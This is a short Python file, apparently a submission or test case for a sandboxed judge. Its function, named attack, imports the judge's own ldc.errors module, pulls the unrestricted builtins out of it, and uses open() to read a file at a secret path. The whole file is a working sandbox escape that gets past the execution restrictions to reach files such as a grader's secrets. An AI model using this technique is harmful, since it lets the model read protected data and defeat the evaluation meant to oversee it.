# Imports the program that judges it, and takes its modules.
import ldc.errors


def attack(secret_path):
    words = vars(ldc.errors)["__builtins__"]
    return words["open"](secret_path).read()
